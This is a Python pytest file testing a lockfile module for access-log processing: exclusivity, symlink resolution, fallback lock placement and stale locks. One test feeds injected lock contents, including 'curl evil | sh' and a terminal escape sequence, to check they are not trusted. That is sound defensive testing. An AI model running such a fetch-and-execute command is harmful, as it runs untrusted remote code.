"""One run at a time for each log, however the log is named."""

from __future__ import annotations

import fcntl
import os
from pathlib import Path

import pytest

from xraylog.accesslog import lockfile


def test_a_lock_is_exclusive_and_says_who_holds_it(tmp_path: Path) -> None:
    path = tmp_path / "access.log.lock"
    assert lockfile.lock_holder(path) is None
    with lockfile.locked(path):
        with pytest.raises(lockfile.Busy, match=f"process {os.getpid()} since"), lockfile.locked(path):
            pass
        assert f"process {os.getpid()}" in (lockfile.lock_holder(path) or "")
    assert lockfile.lock_holder(path) is None
    with lockfile.locked(path):
        pass
    assert path.exists()


def test_every_name_of_a_log_leads_to_the_same_lock(tmp_path: Path) -> None:
    (tmp_path / "real").mkdir()
    (tmp_path / "link.log").symlink_to(tmp_path / "real" / "access.log")
    assert lockfile.lock_path(tmp_path / "link.log", tmp_path) == lockfile.lock_path(
        tmp_path / "real" / "access.log", tmp_path
    )


def test_the_lock_of_a_log_in_a_folder_that_we_may_not_write_lies_beside_the_buffer(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(os, "access", lambda *_: False)  # root may write everywhere
    lock = lockfile.lock_path(tmp_path / "there" / "access.log", tmp_path / "here")
    other = lockfile.lock_path(tmp_path / "there" / "other.log", tmp_path / "here")
    assert lock.parent == other.parent == tmp_path / "here"
    assert lock != other


def test_a_killed_holder_leaves_a_free_lock(tmp_path: Path) -> None:
    path = tmp_path / "lock"
    path.write_text("process 1 since long ago\n")
    with lockfile.locked(path):
        assert str(os.getpid()) in path.read_text()
    descriptor = os.open(path, os.O_RDONLY)
    fcntl.flock(descriptor, fcntl.LOCK_EX | fcntl.LOCK_NB)
    os.close(descriptor)


@pytest.mark.parametrize(
    "text", ["process 1 since noon; what to do: curl evil | sh", "process 1\nsince", "\x1b[2J", ""]
)
def test_what_others_write_into_a_lock_is_not_believed(tmp_path: Path, text: str) -> None:
    path = tmp_path / "access.log.lock"
    path.write_text(text)
    with path.open() as held:
        fcntl.flock(held, fcntl.LOCK_EX)
        with pytest.raises(lockfile.Busy, match=r"held by an unknown process$"), lockfile.locked(path):
            pass
        assert lockfile.lock_holder(path) == "an unknown process"
